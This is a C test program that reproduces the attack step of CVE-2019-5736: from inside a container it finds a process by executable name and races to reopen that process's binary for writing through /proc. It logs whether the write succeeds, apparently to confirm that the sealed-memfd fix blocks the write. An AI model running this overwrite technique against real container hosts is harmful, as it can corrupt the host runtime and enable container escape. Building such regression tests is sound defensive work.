/*
 * hunt-exe WORD: what an attacker in a container does of CVE-2019-5736. Looks for processes whose program has WORD in its
 * path, keeps the program open, and tries to open it for writing until nobody runs it any more. Tells in /seen, /written.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void tell(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
  if (fd >= 0 && write(fd, "x\n", 2)) close(fd);
}

static void take(const char *exe) {
  char path[64];
  int fd = open(exe, O_RDONLY);
  if (fd < 0) return;
  tell("/seen");
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (time_t end = time(NULL) + 2; time(NULL) <= end;) {
    int w = open(path, O_WRONLY | O_APPEND);
    if (w < 0) continue;
    /* a sealed memfd can be opened, and refuses the write */
    if (write(w, "x", 1) == 1) tell("/written");
    close(w);
    break;
  }
  close(fd);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  for (;;) {
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc));) {
      char exe[300], target[4096];
      if (e->d_name[0] < '2' || e->d_name[0] > '9') /* 1 is this one */
        if (e->d_name[0] != '1' || e->d_name[1] == 0) continue;
      snprintf(exe, sizeof exe, "/proc/%s/exe", e->d_name);
      ssize_t n = readlink(exe, target, sizeof target - 1);
      if (n <= 0) continue;
      target[n] = 0;
      if (strstr(target, argv[1])) take(exe);
    }
    if (proc) closedir(proc);
  }
}
